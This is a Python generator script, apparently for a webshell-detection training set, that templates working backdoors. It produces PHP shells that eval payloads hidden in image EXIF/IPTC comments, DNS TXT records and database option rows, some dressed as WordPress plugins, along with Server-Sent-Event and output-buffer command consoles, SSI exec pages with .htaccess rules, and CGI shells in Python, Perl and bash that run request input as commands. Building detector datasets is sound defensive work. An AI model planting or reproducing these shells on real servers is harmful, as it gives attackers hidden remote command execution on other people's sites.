"""train7 webshells of shapes the earlier sets' READMEs do not list:
payloads kept in EXIF comments, DNS TXT records and database option rows,
Server-Sent-Event consoles, output-buffer callbacks, SSI exec pages and CGI
consoles in other languages. Invented, written blind (README.md)."""

from t7_common import F, T, rw, hx, dom, b64, gzb64, webrel, docroot, websub, webname, crlf, oneline, wp_filler, \
    plugin_header


# 1 code kept in an image's EXIF/IPTC comment
def exif_comment(r, v):
    img = "%s/wp-content/uploads/2024/%02d/%s.jpg" % (docroot(r), r.randint(1, 12), r.choice(("logo", "banner-2", "IMG_" + str(r.randint(1000, 9999)))))
    if v == 0:
        code = T("""<?php
$e = @exif_read_data(__DIR__ . '/@I@');
if ($e && isset($e['COMPUTED']['UserComment'])) {
    $f = $e['Make'];
    $f($e['Model']);
}
""", I=img.rsplit("/", 1)[1])
        rel = img.rsplit("/", 1)[0] + "/" + webname(r)
    elif v == 1:
        code = T("""<?php
$x = exif_read_data('@I@', 'COMMENT');
if (!empty($x['COMMENT'][0])) { eval(base64_decode($x['COMMENT'][0])); }
""", I="../" * 0 + img.split("/", 1)[1])
        rel = img.split("/", 1)[0] + "/" + webname(r)
    elif v == 2:
        code = T("""<?php
$info = array();
getimagesize($_SERVER['DOCUMENT_ROOT'] . '/@I@', $info);
if (isset($info['APP13'])) {
    $iptc = iptcparse($info['APP13']);
    $c = $iptc['2#120'][0] ?? '';
    if (isset($_SERVER['HTTP_X_@H@'])) { @eval(gzinflate(base64_decode($c))); }
}
""", I=img.split("/", 1)[1], H=rw(r, 4).upper())
        rel = webrel(r)
    else:
        code = T("""<?php
$m = exif_read_data(dirname(__FILE__) . '/@I@');
$c = isset($m['ImageDescription']) ? $m['ImageDescription'] : '';
$p = preg_split('/\\|/', $c);
if (count($p) == 2 && isset($_REQUEST[$p[0]])) {
    array_map($p[1], array($_REQUEST[$p[0]]));
}
""", I=img.rsplit("/", 1)[1])
        rel = img.rsplit("/", 1)[0] + "/" + webname(r)
    # the JPEG: a tiny header with a COM segment that carries the payload text
    payload = b64("system($_REQUEST['c']);").encode()
    jpg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe" + \
        (len(payload) + 2).to_bytes(2, "big") + payload + b"\xff\xd9"
    return [F(code, rel, "php", "plain"), (jpg, img, "image", "image-payload")]


# 2 code kept in a DNS TXT record
def dns_payload(r, v):
    z = "%s.%s" % (hx(r, 6), r.choice(("example.net", "example.org", "cdn.example.com")))
    if v == 0:
        code = T("""<?php
$r = dns_get_record('@Z@', DNS_TXT);
$c = '';
foreach ($r as $t) { $c .= $t['txt']; }
eval(base64_decode($c));
""", Z=z)
    elif v == 1:
        code = T("""<?php
if (isset($_COOKIE['@K@'])) {
    $t = @dns_get_record($_COOKIE['@K@'] . '.@Z@', DNS_TXT);
    $f = create_function('', gzinflate(base64_decode(implode('', array_column($t, 'txt')))));
    $f();
}
""", K=rw(r, 3), Z=z)
        code = code.replace("create_function('', ", "(function ($s) { return function () use ($s) { eval($s); }; })(").replace("'txt')))));", "'txt')))));")
    else:
        code = T("""<?php
$cache = sys_get_temp_dir() . '/.' . md5('@Z@');
if (!is_file($cache) || filemtime($cache) < time() - 3600) {
    $rec = shell_exec('dig +short TXT @Z@') ?: '';
    file_put_contents($cache, base64_decode(str_replace(array('"', ' ', "\\n"), '', $rec)));
}
include $cache;
""", Z=z)
    return [F(code, webrel(r), "php", r.choice(("plain", "uploads")))]


# 3 code kept in a database row (wp_options, a Joomla param)
def option_row(r, v):
    key = r.choice(("_transient_feed_" + hx(r, 12), "widget_recent_cache", "_site_transient_update_core_x", "rewrite_rules_bak"))
    if v == 0:
        inj = T("""$__o = get_option('@K@');
if ($__o && isset($_SERVER['HTTP_@H@'])) { eval(gzuncompress(base64_decode($__o))); }
""", K=key, H=rw(r, 5).upper())
        code = "<?php\n" + plugin_header(r, r.choice(("cache-warmup", "feed-tools", "lazy-images-ext"))) + \
            "\n".join(wp_filler(r, rw(r, 3), 3)) + "\n" + inj
        return [F(code, docroot(r) + "/wp-content/plugins/%s/%s.php" % (rw(r, 6), rw(r, 6)), "php", "fake-plugin")]
    if v == 1:
        code = T("""<?php
require_once dirname(__FILE__, @D@) . '/wp-load.php';
global $wpdb;
$c = $wpdb->get_var($wpdb->prepare("SELECT option_value FROM {$wpdb->options} WHERE option_name = %s", '@K@'));
if ($c) {
    $fn = $_POST['@P@'] ?? null;
    $c = unserialize(base64_decode($c));
    if ($fn) { call_user_func($c['f'], $fn); }
}
""", D=2, K=key, P=rw(r, 2))
        return [F(code, docroot(r) + "/wp-content/" + webname(r), "php", "plain")]
    code = T("""<?php
$cfg = file_get_contents(__DIR__ . '/configuration.php');
preg_match_all("/public \\\\$(user|password|db|dbprefix) = '([^']*)'/", $cfg, $m);
$c = array_combine($m[1], $m[2]);
$pdo = new PDO('mysql:host=localhost;dbname=' . $c['db'], $c['user'], $c['password']);
$row = $pdo->query("SELECT params FROM {$c['dbprefix']}extensions WHERE element = 'plg_@E@'")->fetchColumn();
$j = json_decode($row, true);
if (isset($j['cache_handler'])) { $h = $j['cache_handler']; $h($_REQUEST['@P@']); }
""", E=rw(r, 6), P=rw(r, 2))
    return [F(code, docroot(r) + "/" + webname(r), "php", "plain")]


# 4 Server-Sent-Events console
def sse_console(r, v):
    k = hx(r, 32)
    if v == 0:
        code = T("""<?php
if (!isset($_GET['c']) || md5($_GET['k'] ?? '') !== '@K@') { http_response_code(404); exit; }
header('Content-Type: text/event-stream');
header('Cache-Control: no-cache');
header('X-Accel-Buffering: no');
while (ob_get_level()) { ob_end_flush(); }
$p = popen($_GET['c'] . ' 2>&1', 'r');
while (!feof($p)) {
    $l = fgets($p);
    echo 'data: ' . base64_encode((string) $l) . "\\n\\n";
    flush();
}
pclose($p);
echo "event: end\\ndata: \\n\\n";
""", K=k)
        ui = """<!doctype html><html><body><pre id=o></pre><input id=c size=80><script>
document.getElementById('c').onkeydown = function (e) {
  if (e.key !== 'Enter') return;
  var es = new EventSource('%s?k=' + encodeURIComponent(localStorage.k) + '&c=' + encodeURIComponent(this.value));
  es.onmessage = function (m) { document.getElementById('o').textContent += atob(m.data); };
  es.addEventListener('end', function () { es.close(); });
};
</script></body></html>
"""
        rel = webrel(r)
        return [F(code, rel, "php", "plain"), F(ui % rel.rsplit("/", 1)[1], rel.rsplit("/", 1)[0] + "/" + rw(r, 5) + ".html",
                                                "html", "kit-file")]
    if v == 1:
        code = T("""<?php
session_start();
if (($_SESSION['a'] ?? 0) !== 1) { if (hash('sha256', $_POST['pw'] ?? '') === '@K@') { $_SESSION['a'] = 1; } else { exit('<form method=post><input type=password name=pw></form>'); } }
if (isset($_GET['stream'])) {
    header('Content-Type: text/event-stream');
    $pr = proc_open($_SESSION['cmd'], array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $io);
    while (($l = fgets($io[1])) !== false) { echo "data: " . json_encode($l) . "\\n\\n"; @ob_flush(); flush(); }
    exit;
}
if (isset($_POST['cmd'])) { $_SESSION['cmd'] = $_POST['cmd']; exit('ok'); }
?><pre id="o"></pre><form onsubmit="fetch('',{method:'POST',body:new FormData(this)}).then(function(){var s=new EventSource('?stream=1');s.onmessage=function(e){o.textContent+=JSON.parse(e.data)}});return false"><input name="cmd"></form>
""", K=hx(r, 64))
        return [F(code, webrel(r), "php", "plain")]
    code = T("""<?php
header('Content-Type: text/event-stream');
$q = json_decode(base64_decode($_SERVER['HTTP_LAST_EVENT_ID'] ?? ''), true);
if (!$q || $q['k'] !== '@K@') { echo "retry: 60000\\n\\n"; exit; }
$d = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($q['p'] ?? '.', FilesystemIterator::SKIP_DOTS));
if (!empty($q['w'])) { file_put_contents($q['w'], base64_decode($q['b'])); }
foreach ($d as $f) { echo 'data: ' . $f->getPathname() . ' ' . $f->getSize() . "\\n\\n"; flush(); }
if (!empty($q['x'])) { echo 'data: ' . str_replace("\\n", "\\ndata: ", shell_exec($q['x'])) . "\\n\\n"; }
""", K=hx(r, 16))
    return [F(code, webrel(r), "php", r.choice(("plain", "uploads")))]


# 5 output-buffer callback as the sink
def ob_callback(r, v):
    p = rw(r, 2)
    if v == 0:
        code = T("""<?php
ob_start($_REQUEST['@P@'] ?? 'trim');
echo $_REQUEST['@Q@'] ?? '';
ob_end_flush();
""", P=p, Q=rw(r, 2))
    elif v == 1:
        code = T("""<?php
$h = @hex2bin($_COOKIE['@P@'] ?? '');
if ($h) {
    ob_start($h, 4);
    print(base64_decode($_POST['d']));
    ob_end_clean();
}
""", P=p)
    elif v == 2:
        code = T("""<?php
class Tpl_Buffer {
    public $cb;
    function __construct($c) { $this->cb = $c; ob_start(array($this, 'filter')); }
    function filter($buf) { return call_user_func($this->cb, $buf); }
}
if (isset($_SERVER['HTTP_X_@P@'])) {
    new Tpl_Buffer(strrev($_SERVER['HTTP_X_@P@']));
    echo $_SERVER['HTTP_X_@Q@'];
}
""", P=p.upper(), Q=rw(r, 3).upper())
    else:
        code = oneline(T("""<?php @ob_start(@$_GET['@P@']); echo @$_GET['@Q@']; @ob_end_flush(); ?>""", P=p, Q=rw(r, 1)))
        return [F(code + "\n", webrel(r), "php", "one-line")]
    return [F(code, webrel(r), "php", "plain")]


# 6 SSI exec pages
def ssi_exec(r, v):
    d = docroot(r) + "/" + r.choice(("", "images/", "wp-content/uploads/" + rw(r, 4) + "/", "tmp/"))
    if v == 0:
        page = "<html><body>\n<!--#exec cmd=\"$QUERY_STRING_UNESCAPED\" -->\n</body></html>\n"
        ht = "Options +Includes\nAddType text/html .shtml\nAddOutputFilter INCLUDES .shtml\n"
    elif v == 1:
        page = ("<!--#set var=\"c\" value=\"${HTTP_X_%s}\" -->\n<pre><!--#exec cmd=\"$c\" --></pre>\n" % rw(r, 4).upper())
        ht = "Options +Includes +ExecCGI\nAddHandler server-parsed .html .htm\n"
    else:
        page = ("<!--#if expr=\"$QUERY_STRING = /^%s/\" -->\n<!--#exec cgi=\"/cgi-bin/%s.cgi\" -->\n<!--#else -->\n<h1>Not Found</h1>\n<!--#endif -->\n"
                % (rw(r, 4), rw(r, 4)))
        ht = "Options +Includes\nAddType text/html .stm\nAddOutputFilter INCLUDES .stm\n"
    ext = ("shtml", "html", "stm")[v]
    files = [F(page, d + r.choice(("index", "about", "x", hx(r, 6))) + "." + ext, "html", "ssi"),
             F(ht, d + ".htaccess", "htaccess", "htaccess")]
    if v == 2:
        cgi = "#!/bin/sh\necho 'Content-Type: text/plain'\necho\neval \"$(echo \"$QUERY_STRING\" | cut -d= -f2- | sed 's/+/ /g;s/%20/ /g')\"\n"
        files.append(F(cgi, docroot(r) + "/cgi-bin/" + files[0][0].decode().split("/cgi-bin/")[1].split('"')[0], "sh", "cgi-bin"))
    return files


# 7 CGI consoles in Python, Perl, shell, with .htaccess handlers
def cgi_console(r, v):
    d = docroot(r) + "/" + r.choice(("cgi-bin", "wp-content/uploads/" + rw(r, 5), "images/" + rw(r, 3)))
    ext = r.choice(("cgi", "pl", "py", "sh"))
    if v == 0:
        code = """#!/usr/bin/env python3
import cgi, subprocess, os, html
f = cgi.FieldStorage()
print('Content-Type: text/html\\n')
c = f.getfirst('c', '')
if c:
    print('<pre>' + html.escape(subprocess.getoutput(c)) + '</pre>')
print('<form><input name=c size=80 value="%s"></form>' % html.escape(c))
print('<small>' + os.getcwd() + '</small>')
"""
        lang = "python"
    elif v == 1:
        code = """#!/usr/bin/perl
use strict;
my %in = map { my ($k, $v) = split /=/, $_, 2; $v =~ tr/+/ /; $v =~ s/%(..)/chr(hex($1))/ge; ($k, $v) } split /&/, ($ENV{QUERY_STRING} || '');
print "Content-type: text/plain\\n\\n";
if ($in{'d'}) { chdir $in{'d'}; }
if ($in{'up'} && $ENV{CONTENT_LENGTH}) { my $b; read(STDIN, $b, $ENV{CONTENT_LENGTH}); open my $o, '>', $in{'up'}; binmode $o; print $o $b; close $o; print "saved\\n"; }
print `$in{'x'} 2>&1` if $in{'x'};
"""
        lang = "perl"
    elif v == 2:
        code = """#!/bin/bash
echo "Content-type: text/plain"
echo ""
[ "$HTTP_X_TOKEN" = "%s" ] || exit 0
CMD=$(printf '%%b' "${QUERY_STRING//%%/\\\\x}")
/bin/bash -c "$CMD" 2>&1
""" % hx(r, 10)
        lang = "sh"
    else:
        code = """#!/usr/bin/env python3
import os, sys, base64, json
n = int(os.environ.get('CONTENT_LENGTH') or 0)
req = json.loads(sys.stdin.read(n) or '{}')
sys.stdout.write('Content-Type: application/json\\r\\n\\r\\n')
if req.get('k') == '%s':
    out = os.popen(base64.b64decode(req['c']).decode()).read()
    sys.stdout.write(json.dumps({'o': base64.b64encode(out.encode()).decode()}))
""" % hx(r, 12)
        lang = "python"
    name = r.choice(("stat", "count", "info", "img", rw(r, 4))) + "." + (ext if d.endswith("cgi-bin") else r.choice(("cgi", "jpg.cgi", "txt")))
    files = [F(code, d + "/" + name, lang, "cgi-bin" if "cgi-bin" in d else "odd-ext")]
    if "cgi-bin" not in d:
        files.append(F("Options +ExecCGI\nAddHandler cgi-script .%s\n" % name.rsplit(".", 1)[1], d + "/.htaccess", "htaccess", "htaccess"))
    return files


TECHS = (
    ("exif-comment-payload", exif_comment, 4),
    ("dns-txt-payload", dns_payload, 3),
    ("db-option-payload", option_row, 3),
    ("sse-stream-console", sse_console, 3),
    ("ob-start-callback", ob_callback, 4),
    ("ssi-exec-page", ssi_exec, 3),
    ("cgi-console", cgi_console, 4),
)
